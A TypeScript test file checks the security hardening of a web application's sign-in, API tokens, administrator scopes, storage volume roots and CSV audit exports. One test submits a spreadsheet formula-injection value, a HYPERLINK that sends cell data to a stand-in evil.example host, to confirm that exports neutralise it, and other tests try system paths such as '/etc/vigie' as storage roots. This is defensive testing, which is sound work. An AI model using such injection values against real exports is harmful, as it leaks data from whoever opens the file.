// Security holes of the review (issue 11), each proven closed over HTTP on both databases:
// parallel sign-in bursts, per-address rate limit, no login enumeration, token escalation,
// tokens outliving their creator, commune-scoped administrators acting centre-wide, volume
// roots, self-restored image access, image accounts made by one administrator alone, and
// spreadsheet formulas in CSV exports.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { createTestContext, testCli, type TestContext } from '../../testing/context.ts';
import { dialectsUnderTest } from '../../testing/databases.ts';
import { signIn, signInExisting, testPassword, type SignedIn } from '../../testing/http.ts';

const home = '38999';
const other = '38998';
const login = (context: TestContext, name: string, password: string) =>
  context.app.inject({ method: 'POST', url: '/api/auth/login', payload: { login: name, password } });

for (const { dialect, skip } of await dialectsUnderTest()) {
  describe(`hardening of sign-in, tokens and accounts [${dialect}]`, { skip }, () => {
    let context: TestContext;
    let admin: SignedIn;

    before(async () => {
      context = await createTestContext(dialect, { clockStart: '2026-11-23T10:00:00.000Z' });
      await context.services.communes.create({ insee: home, name: 'Vigie-les-Bains', retentionDays: 14 }, testCli);
      await context.services.communes.create({ insee: other, name: 'Saint-Guet', retentionDays: 14 }, testCli);
      admin = await signIn(context, 'administrator', 'all');
    });
    after(async () => context?.close());

    it('a burst of 30 wrong passwords and the right one evaluates at most 5 and refuses the right one', async () => {
      await context.services.accounts.create({ login: 'burst', role: 'auditor', password: testPassword, communes: [home] }, testCli);
      const attempts = [...Array.from({ length: 30 }, () => login(context, 'burst', 'Wrong-Password-2026!')), login(context, 'burst', testPassword)];
      const answers = await Promise.all(attempts);
      assert.ok(
        answers.every((answer) => answer.statusCode === 401 || answer.statusCode === 423),
        JSON.stringify(answers.map((answer) => answer.statusCode)),
      );
      assert.equal(answers.at(-1)!.statusCode === 200, false, 'the right password in the burst is refused');
      const failed = await context.services.audit.search({ action: 'auth.login.failed', actorLogin: 'burst' }, { allCommunes: true, communes: [] });
      const evaluated = failed.records.filter((record) => record.details.reason === 'password').length;
      assert.ok(evaluated <= 5, `${evaluated} wrong passwords evaluated`);
      const locks = await context.services.audit.search({ action: 'auth.account.locked', actorLogin: 'burst' }, { allCommunes: true, communes: [] });
      assert.equal(locks.total, 1);
      assert.equal((await login(context, 'burst', testPassword)).statusCode, 401, 'still locked: answered like a wrong password');
      context.clock.advance(16 * 60_000);
      assert.equal((await login(context, 'burst', testPassword)).statusCode, 200);
    });

    it('four wrong passwords then the right one still signs in', async () => {
      await context.services.accounts.create({ login: 'clumsy', role: 'auditor', password: testPassword, communes: [home] }, testCli);
      for (let attempt = 0; attempt < 4; attempt++) assert.equal((await login(context, 'clumsy', 'Wrong-Password-2026!')).statusCode, 401);
      assert.equal((await login(context, 'clumsy', testPassword)).statusCode, 200);
    });

    it('a disabled account answers like a wrong password until the password is right', async () => {
      const user = await context.services.accounts.create({ login: 'gone', role: 'auditor', password: testPassword, communes: [home] }, testCli);
      await context.services.accounts.update(user.id, { disabled: true }, testCli);
      const wrong = await login(context, 'gone', 'Wrong-Password-2026!');
      const unknown = await login(context, 'nobody-at-all', 'Wrong-Password-2026!');
      assert.deepEqual([wrong.statusCode, wrong.json().code], [unknown.statusCode, unknown.json().code]);
      assert.equal((await login(context, 'gone', testPassword)).json().code, 'account_disabled');
    });

    it('sign-in attempts are limited per address (429, coded, shaped)', async () => {
      const limited = await createTestContext(dialect, { env: { VIGIE_SIGNIN_ATTEMPTS_PER_MINUTE: '3' } });
      try {
        const codes: number[] = [];
        for (let attempt = 0; attempt < 5; attempt++) codes.push((await login(limited, 'anyone', 'Wrong-Password-2026!')).statusCode);
        assert.deepEqual(codes, [401, 401, 401, 429, 429]);
        const refused = await login(limited, 'anyone', 'x');
        assert.equal(refused.json().code, 'rate_limited');
        assert.ok(refused.json().message_fr && refused.json().message_en);
      } finally {
        await limited.close();
      }
    });

    it('a token never holds more than its creator, and dies with it', async () => {
      const boss = await signIn(context, 'administrator', 'all', { login: 'token-boss' });
      const narrow = await boss.request({
        method: 'POST',
        url: '/api/tokens',
        payload: { name: 'only-tokens', role: 'administrator', allCommunes: true, actions: ['token.manage'] },
      });
      assert.equal(narrow.statusCode, 201, narrow.body);
      const bearer = { authorization: `Bearer ${narrow.json().token}` };
      const escalate = await context.app.inject({
        method: 'POST',
        url: '/api/tokens',
        headers: bearer,
        payload: { name: 'everything', role: 'administrator', allCommunes: true },
      });
      assert.equal(escalate.statusCode, 403);
      assert.equal(escalate.json().code, 'forbidden');
      const userWrite = await context.app.inject({
        method: 'POST',
        url: '/api/tokens',
        headers: bearer,
        payload: { name: 'users', role: 'administrator', allCommunes: true, actions: ['user.write'] },
      });
      assert.equal(userWrite.statusCode, 403);
      const child = await context.app.inject({
        method: 'POST',
        url: '/api/tokens',
        headers: bearer,
        payload: { name: 'child', role: 'administrator', allCommunes: true, actions: ['token.manage'] },
      });
      assert.equal(child.statusCode, 201, child.body);
      const childBearer = { authorization: `Bearer ${child.json().token}` };
      assert.equal((await context.app.inject({ method: 'GET', url: '/api/tokens', headers: childBearer })).statusCode, 200);
      await admin.request({ method: 'PATCH', url: `/api/users/${boss.userId}`, payload: { disabled: true } });
      for (const headers of [bearer, childBearer]) {
        const dead = await context.app.inject({ method: 'GET', url: '/api/tokens', headers });
        assert.equal(dead.json().code, 'token_invalid');
      }
    });

    it('a commune-scoped administrator cannot change centre settings or volumes; roots stay under VIGIE_STORAGE_ROOTS', async () => {
      const scoped = await signIn(context, 'administrator', [home]);
      const setting = await scoped.request({ method: 'PUT', url: '/api/settings/totp_required_for_image_roles', payload: { value: false } });
      assert.equal(setting.json().code, 'commune_out_of_scope');
      const volume = await scoped.request({ method: 'POST', url: '/api/storage/volumes', payload: { name: 'mine', root: `${context.dataDir}/mine` } });
      assert.equal(volume.json().code, 'commune_out_of_scope');
      for (const root of ['/tmp/vigie-anywhere', '/etc/vigie', context.dataDir, `${context.dataDir}/..`, '/']) {
        const refused = await admin.request({ method: 'POST', url: '/api/storage/volumes', payload: { name: 'bad', root } });
        assert.equal(refused.json().code, 'storage_volume_invalid', root);
      }
      const accepted = await admin.request({ method: 'POST', url: '/api/storage/volumes', payload: { name: 'good', root: `${context.dataDir}/volumes/good` } });
      assert.equal(accepted.statusCode, 201, accepted.body);
      const disable = await scoped.request({ method: 'PATCH', url: '/api/storage/volumes/good', payload: { enabled: false } });
      assert.equal(disable.json().code, 'commune_out_of_scope');
    });

    it('an administrator cannot restore their own image access, nor give image access alone', async () => {
      const self = await signIn(context, 'administrator', 'all', { login: 'self-admin', trainingDate: '2019-01-01' });
      const restore = await self.request({ method: 'PATCH', url: `/api/users/${self.userId}`, payload: { trainingDate: '2026-11-01' } });
      assert.equal(restore.json().code, 'self_edit_forbidden');
      const created = await admin.request({
        method: 'POST',
        url: '/api/users',
        payload: {
          login: 'new-operator',
          role: 'operator',
          password: testPassword,
          communes: [home],
          approvalReference: 'AGR-7',
          approvalExpiresOn: '2029-01-01',
          trainingDate: '2026-01-10',
        },
      });
      assert.equal(created.statusCode, 201, created.body);
      assert.equal(created.json().imageAccess.confirmed, false);
      const operator = await signInExisting(context, 'new-operator', testPassword);
      const me = await operator.request({ method: 'GET', url: '/api/auth/me' });
      assert.deepEqual([me.json().imageAccess.allowed, me.json().imageAccess.code], [false, 'image_access_unconfirmed']);
      const byHimself = await admin.request({ method: 'POST', url: `/api/users/${created.json().id}/confirm-image-access` });
      assert.equal(byHimself.json().code, 'four_eyes_required');
      const supervisor = await signIn(context, 'supervisor', 'all');
      const confirmed = await supervisor.request({ method: 'POST', url: `/api/users/${created.json().id}/confirm-image-access` });
      assert.equal(confirmed.statusCode, 200, confirmed.body);
      assert.equal(confirmed.json().imageAccess.confirmed, true);
      const again = await signInExisting(context, 'new-operator', testPassword);
      assert.equal((await again.request({ method: 'GET', url: '/api/auth/me' })).json().imageAccess.allowed, true);
      // Setting another's password is image access given again: a second person confirms it.
      await admin.request({ method: 'POST', url: `/api/users/${created.json().id}/reset-password`, payload: { password: 'Another-Strong-Pass-2026' } });
      const reset = await signInExisting(context, 'new-operator', 'Another-Strong-Pass-2026');
      assert.equal((await reset.request({ method: 'GET', url: '/api/auth/me' })).json().imageAccess.code, 'image_access_unconfirmed');
      const audit = await context.services.audit.search({ action: 'user.image_access_confirmed' }, { allCommunes: true, communes: [] });
      assert.equal(audit.total, 1);
    });

    it('CSV exports neutralise cells a spreadsheet would run', async () => {
      await login(context, '=HYPERLINK("http://evil.example/"&A1)', 'x');
      await login(context, '@SUM(1+1)', 'x');
      const csv = (await admin.request({ method: 'GET', url: '/api/audit/export.csv' })).body;
      assert.match(csv, /'=HYPERLINK/);
      assert.match(csv, /'@SUM/);
      assert.doesNotMatch(csv, /(^|,)=HYPERLINK/m);
    });
  });
}
